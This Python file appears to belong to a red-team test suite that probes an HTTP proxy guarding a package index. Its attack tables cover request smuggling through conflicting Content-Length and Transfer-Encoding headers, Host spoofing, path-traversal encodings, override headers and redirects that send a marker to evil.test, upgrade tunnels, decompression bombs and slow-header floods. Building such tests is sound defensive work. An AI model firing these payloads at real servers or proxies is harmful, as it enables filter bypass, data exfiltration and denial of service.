"""HTTP/1.1: requests that are read in two ways, requests behind requests, fields that others would obey."""

from hatchway.redteam.attacks.attack import INDEX, SOURCE, Attack, table

_PARTLY = (INDEX, SOURCE)


def _sent(line: str, *fields: str, body: str = "", host: str = "Host: index.test", end: str = "\\r\\n") -> str:
    """Sends one request to the index; `{}` is where the marker stands."""
    text = end.join([line, *([host] if host else []), *fields]) + end * 2 + body
    return "site('index.test', b'" + text.replace("{}", "' + B + b'") + "')"


def _after(
    second: str, *, first: str = "GET /simple/ HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n", together: bool = False
) -> str:
    """A request that is allowed, and what comes behind it on the same connection."""
    joined = f"b'{first}' + b'{second}'" if together else f"[b'{first}', b'{second}']"
    return "site('index.test', " + joined.replace("{}", "' + B + b'") + ")"


def _followed(kind: str, then: str) -> str:
    """Asks the index for an answer that leads elsewhere, and goes there: `T` is what the answer says."""
    line = f"A = site('index.test', b'GET /simple/{kind}/' + B[::-1] + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n')"
    return f"{line}; T = (re.search(rb'(hx[0-9a-f]+z)', A) or [b'', B])[1]; {then}"


_PATHS = {
    "dots": "/simple/../{}", "dots-encoded": "/simple/%2e%2e/{}", "slash-encoded": "/simple/..%2F{}", "twice-encoded": "/simple/%252e%252e/{}",
    "two-slashes": "//{}", "slashes-then-dots": "/simple//../../{}", "parameter": "/simple/..;/{}", "backslash": "/simple/..\\\\{}", "backslash-encoded": "/simple/..%5c{}",
    "overlong": "/simple/%c0%ae%c0%ae/{}", "nul": "/simple/%00/../{}", "upper-case": "/SIMPLE/{}", "longer-name": "/simplest/{}", "only-the-name": "/simple{}",
    "fragment": "/simple/#/../{}", "half-encoded": "/simple/%2/{}", "dot-encoded-once": "/simple/.%2e/{}", "mixed-case": "/simple/%2E%2e/{}", "tab": "/simple/%09../{}",
    "unicode-dots": "/simple/%e2%80%a5/{}", "another": "/upload/{}", "root": "/{}", "star": "*{}", "no-slash": "simple/{}", "query": "/?/simple/{}",
}  # fmt: skip
_LENGTHS = {"twice": "Content-Length: 3\\r\\nContent-Length: 30", "list": "Content-Length: 3, 3", "plus": "Content-Length: +3", "hexadecimal": "Content-Length: 0x3",
            "twenty-digits": "Content-Length: 00000000000000000003", "negative": "Content-Length: -3", "empty": "Content-Length:", "space": "Content-Length: 3 3", "underscore": "Content-Length: 1_0"}  # fmt: skip
_CODINGS = {"chunked-cl": "Content-Length: 4\\r\\nTransfer-Encoding: chunked", "cl-chunked": "Transfer-Encoding: chunked\\r\\nContent-Length: 4", "identity": "Transfer-Encoding: identity",
            "twice": "Transfer-Encoding: chunked\\r\\nTransfer-Encoding: chunked", "gzip": "Transfer-Encoding: gzip, chunked", "x": "Transfer-Encoding: xchunked", "quoted": 'Transfer-Encoding: "chunked"',
            "tab": "Transfer-Encoding:\\tchunked\\r\\nContent-Length: 4", "before-colon": "Transfer-Encoding : chunked", "underscore": "Transfer_Encoding: chunked\\r\\nContent-Length: 4"}  # fmt: skip
_OVERRIDES = (
    "X-Forwarded-Host",
    "X-Host",
    "X-Original-URL",
    "X-Rewrite-URL",
    "Forwarded",
    "X-Forwarded-Server",
    "X-HTTP-Host-Override",
    "X-Forwarded-Prefix",
)
_MODES = {
    "nominated": ("X-Mode: read", "Connection: x-mode", "X-Note: {}"), "nominated-in-a-list": ("X-Mode: read", "Connection: close, X-Mode", "X-Note: {}"),
    "underscore-too": ("X-Mode: read", "X_Mode: {}"), "underscore-first": ("X_Mode: {}", "X-Mode: read"), "underscore-alone": ("X_Mode: read", "X-Note: {}"),
    "two-lines": ("X-Mode: read", "X-Mode: {}"), "list": ("X-Mode: read, {}",), "absent": ("X-Note: {}",),
}  # fmt: skip
_SMUGGLED = "GET /{} HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n"

ATTACKS: tuple[Attack, ...] = (
    *table("H01", "Another Host than the server name", {
        "other": _sent("GET /simple/{} HTTP/1.1", host="Host: other.test"),
        "evil": _sent("GET /simple/{} HTTP/1.1", host="Host: evil.test"),
        "marker": _sent("GET /simple/ HTTP/1.1", host="Host: {}.test"),
        "port": _sent("GET /simple/{} HTTP/1.1", host="Host: index.test:8443"),
        "user": _sent("GET /simple/{} HTTP/1.1", host="Host: index.test@evil.test"),
        "comma": _sent("GET /simple/{} HTTP/1.1", host="Host: index.test, evil.test"),
        "in-clear": "tcp(addr('clear.test'), 80, b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n')",
        "space": _sent("GET /simple/{} HTTP/1.1", host="Host: index.test evil.test"),
    }),
    *table("H02", "A target with a host of its own", {
        "http": _sent("GET http://evil.test/simple/{} HTTP/1.1"),
        "https": _sent("GET https://other.test/simple/{} HTTP/1.1"),
        "user": _sent("GET https://index.test@evil.test/simple/{} HTTP/1.1"),
        "two-slashes": _sent("GET //evil.test/simple/{} HTTP/1.1"),
        "other-scheme": _sent("GET ftp://evil.test/{} HTTP/1.1"),
    }),
    *table("H03", "Two Hosts", {
        "allowed-first": _sent("GET /simple/{} HTTP/1.1", "Host: other.test"),
        "allowed-last": _sent("GET /simple/{} HTTP/1.1", "Host: index.test", host="Host: other.test"),
        "the-same": _sent("GET /simple/{} HTTP/1.1", "Host: index.test"),
        "other-case": _sent("GET /simple/{} HTTP/1.1", "hOST: other.test"),
    }),
    *table("H05", "No Host, other versions", {
        "none": _sent("GET /simple/{} HTTP/1.1", host=""),
        "empty": _sent("GET /simple/{} HTTP/1.1", host="Host:"),
        "http-0.9": "site('index.test', b'GET /simple/' + B + b'\\r\\n')",
        "http-1.2": _sent("GET /simple/{} HTTP/1.2"),
        "http-2.0": _sent("GET /simple/{} HTTP/2.0"),
        "no-version": _sent("GET /simple/{}"),
        "small-letters": _sent("GET /simple/{} http/1.1"),
    }),
    *table("H06", "A second request on an allowed connection", {
        "other-host": _after(_SMUGGLED),
        "other-path": _after("GET /upload/{} HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n"),
        "other-method": _after("POST /simple/{} HTTP/1.1\\r\\nHost: index.test\\r\\nContent-Length: 0\\r\\n\\r\\n"),
        "after-head": _after(_SMUGGLED, first="HEAD /simple/ HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n"),
    }, _PARTLY),
    *table("H07", "Requests behind each other in one segment", {
        "other-host": _after(_SMUGGLED, together=True),
        "other-path": _after("DELETE /{} HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n", together=True),
        "as-a-body": _after(_SMUGGLED, first="GET /simple/ HTTP/1.1\\r\\nHost: index.test\\r\\nContent-Length: 5\\r\\n\\r\\n", together=True),
        "as-a-body-without-length": _after(_SMUGGLED, first="GET /simple/ HTTP/1.1\\r\\nHost: index.test\\r\\nConnection: close\\r\\n\\r\\n", together=True),
    }, _PARTLY),
    *table("H08", "Two lengths of a body", {
        name: _sent("POST /simple/{} HTTP/1.1", fields, body="0\\r\\n\\r\\n" + _SMUGGLED) for name, fields in _CODINGS.items()
    }),
    *table("H10", "Lengths that are read in two ways", {
        name: _sent("GET /simple/{} HTTP/1.1", fields, body="abc" + _SMUGGLED) for name, fields in _LENGTHS.items()
    }),
    *table("H11", "Lines that go on", {
        "space": _sent("GET /simple/{} HTTP/1.1", "X-A: b\\r\\n c"),
        "tab": _sent("GET /simple/{} HTTP/1.1", "X-A: b\\r\\n\\tHost: other.test"),
        "first-line": _sent("GET /simple/{} HTTP/1.1", host=" X: y\\r\\nHost: index.test"),
        "coding": _sent("POST /simple/{} HTTP/1.1", "Transfer-Encoding:\\r\\n chunked", body="0\\r\\n\\r\\n"),
    }),
    *table("H12", "Other ends of lines", {
        "lf": _sent("GET /simple/{} HTTP/1.1", end="\\n"),
        "cr": _sent("GET /simple/{} HTTP/1.1", "X: y\\rHost: other.test"),
        "lf-in-a-field": _sent("GET /simple/{} HTTP/1.1", "X: y\\nHost: other.test"),
        "crcrlf": _sent("GET /simple/{} HTTP/1.1", end="\\r\\r\\n"),
        "lf-in-a-target": _sent("GET /simple/\\n{} HTTP/1.1"),
    }),
    *table("H13", "Octets that do not belong there", {
        "nul": _sent("GET /simple/{} HTTP/1.1", "X: a\\0b"),
        "before-colon": _sent("GET /simple/{} HTTP/1.1", host="Host : index.test"),
        "no-colon": _sent("GET /simple/{} HTTP/1.1", "nonsense"),
        "no-name": _sent("GET /simple/{} HTTP/1.1", ": x"),
        "high-name": _sent("GET /simple/{} HTTP/1.1", "X\\xff: y"),
        "two-spaces": _sent("GET  /simple/{} HTTP/1.1"),
        "tab": _sent("GET\\t/simple/{}\\tHTTP/1.1"),
        "vertical-tab": _sent("GET /simple/{} HTTP/1.1", "X: a\\x0bb"),
        "high-target": _sent("GET /simple/\\xff{} HTTP/1.1"),
    }),
    *table("H13", "Chunks that are read in two ways", {
        name: _sent("POST /simple/ HTTP/1.1", "Transfer-Encoding: chunked", body=body)
        for name, body in {"chunk-plus": "+f\\r\\n{}\\r\\n0\\r\\n\\r\\n", "chunk-0x": "0xf\\r\\n{}\\r\\n0\\r\\n\\r\\n", "chunk-lf": "f\\n{}\\n0\\n\\n", "chunk-extension": "f;a=\\n{}\\r\\n{}\\r\\n0\\r\\n\\r\\n",
                           "chunk-large": "fffffffffffffffff\\r\\n{}", "chunk-trailer": "0\\r\\nX-Trailer: {}\\r\\n\\r\\n"}.items()
    }),
    *table("H15", "Expect", {
        "then-a-request": _sent("GET /simple/ HTTP/1.1", "Expect: 100-continue", "Content-Length: 0", body=_SMUGGLED),
        "other": _sent("GET /simple/ HTTP/1.1", "Expect: {}"),
    }),
    *table("H23", "Another protocol by Upgrade", {
        "h2c": _sent("GET /upload/{} HTTP/1.1", "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"),
        "preface": "tcp(addr('clear.test'), 80, PREFACE + h2_frame(4, 0, 0) + h2_request(1, *get('/' + M, 'clear.test')))",
        "preface-within-tls": "site('index.test', PREFACE + h2_frame(4, 0, 0) + h2_request(1, *get('/' + M)))",
        "h2c-then-octets": "site('index.test', [b'GET /simple/ HTTP/1.1\\r\\nHost: index.test\\r\\nConnection: Upgrade\\r\\nUpgrade: h2c\\r\\n\\r\\n', PREFACE + h2_frame(4, 0, 0) + h2_request(1, *get('/' + M))])",
    }),
    *table("H25", "WebSocket where no rule has it", {
        "handshake": _sent("GET /upload/{} HTTP/1.1", "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="),
        "then-frames": _after("\\x81\\x0f{}", first="GET /simple/ HTTP/1.1\\r\\nHost: index.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n"),
    }),
    *table("H26", "Upgrade to anything", {
        "name": _sent("GET /simple/ HTTP/1.1", "Connection: Upgrade", "Upgrade: {}"),
        "then-octets": _after("{}{}", first="GET /simple/ HTTP/1.1\\r\\nHost: index.test\\r\\nConnection: Upgrade\\r\\nUpgrade: foo\\r\\n\\r\\n"),
    }),
    *table("H27", "Another method by a field", {
        name.lower(): _sent("GET /simple/ HTTP/1.1", f"{name}: {{}}") for name in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override")
    }),
    *table("H27", "Other methods", {
        f"method-{method.lower()}": _sent(f"{method} /simple/{{}} HTTP/1.1", "Content-Length: 0") for method in ("POST", "PUT", "PATCH", "DELETE", "OPTIONS", "PROPFIND", "get", "GETX")
    }),
    *table("H28", "Paths that are read in two ways", {name: _sent(f"GET {path} HTTP/1.1") for name, path in _PATHS.items()}),
    *table("H30", "Fields that name another site", {name.lower(): _sent("GET /simple/ HTTP/1.1", f"{name}: {{}}.evil.test") for name in _OVERRIDES}),
    *table("H31", "Fields for one hop", {
        "nominated": _sent("GET /simple/ HTTP/1.1", "Connection: x-nominated", "X-Nominated: {}"),
        "keep-alive": _sent("GET /simple/ HTTP/1.1", "Keep-Alive: {}"),
        "te": _sent("GET /simple/ HTTP/1.1", "TE: {}"),
        "proxy-connection": _sent("GET /simple/ HTTP/1.1", "Proxy-Connection: {}"),
    }),
    *table("H29", "A condition on a header that the server reads otherwise", {
        name: _sent("GET /simple/ HTTP/1.1", *lines, host="Host: files.test").replace("site('index.test'", "site('files.test'") for name, lines in _MODES.items()
    }),
    *table("H32", "Methods that show what was sent", {method.lower(): _sent(f"{method} /simple/{{}} HTTP/1.1") for method in ("TRACE", "TRACK", "DEBUG")}),
    *table("H33", "A redirect to another site, which is followed", {
        "anew": _followed("redirect", "tls(addr('evil.test'), b'GET /' + T + b' HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n', 'evil.test')"),
        "on-the-same-connection": "site('index.test', [b'GET /simple/redirect/' + B[::-1] + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n', b'GET /' + B + b' HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'])",
        "at-its-address": _followed("redirect", "tls(facts['zone']['evil.test'], b'GET /' + T + b' HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n', 'evil.test')"),
    }, _PARTLY),
    *table("H40", "A hint at another way to a site, which is taken", {
        "datagrams": _followed("alternative", "udp('203.0.113.66', 443, T)"),
        "connection": _followed("alternative", "tls('203.0.113.66', b'GET /simple/' + T + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n', 'index.test')"),
        "other-port": _followed("alternative", "site('index.test', b'GET /simple/' + T + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n', port=8443)"),
    }, _PARTLY),
    *table("H41", "Answers that nobody asked for", {
        name: "site('index.test', [b'GET /simple/" + kind + "/' + B[::-1] + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n', " + then + "])"
        for name, kind, then in (
            ("protocols-switched-then-octets", "unasked", "B * 4"),
            ("protocols-switched-then-a-request", "unasked", "b'GET /upload/' + B + b' HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n'"),
            ("interim-without-end", "interim", "b'GET /upload/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n'"),
            ("two-answers", "twice", "b'GET /upload/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n'"),
        )
    }, _PARTLY),
    *table("H37", "Slowly", {
        "head": "slowly('index.test', b'GET /upload/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n')",
        "other-host": "slowly('index.test', b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n')",
        "first-octets": "slowly('index.test', B * 3, before=0.2)",
    }),
    *table("H38", "A body that grows when it is unpacked", {
        "then-another-path": "import gzip\nd = gzip.compress(bytes(1 << 22)); site('index.test', [b'POST /simple/ HTTP/1.1\\r\\nHost: index.test\\r\\nContent-Encoding: gzip\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(d) + d, b'GET /upload/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n'])",
    }),
    *table("H36", "Heads without end", {
        "field": "site('index.test', b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\nX: ' + b'a' * 200000 + b'\\r\\n\\r\\n')",
        "fields": "site('index.test', b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\n' + b''.join(b'X-%d: y\\r\\n' % n for n in range(3000)) + b'\\r\\n')",
        "target": "site('index.test', b'GET /simple/' + B + b'a' * 100000 + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n')",
        "never-ends": "site('index.test', b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\n')",
    }),
    *table("H35", "Data where a reader sends none", {
        "body-of-get": _sent("GET /upload/ HTTP/1.1", "Content-Length: 15", body="{}"),
        "long-query": "site('index.test', b'GET /simple/?q=' + B * 700 + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n')",
    }),
    *table("H42", "Long paths for slow matchers", {
        "slashes": "site('index.test', b'GET ' + b'/simple' * 2000 + b'/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n')",
        "dots": "site('index.test', b'GET /simple/' + b'a/../' * 500 + b'../' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n')",
    }),
)  # fmt: skip
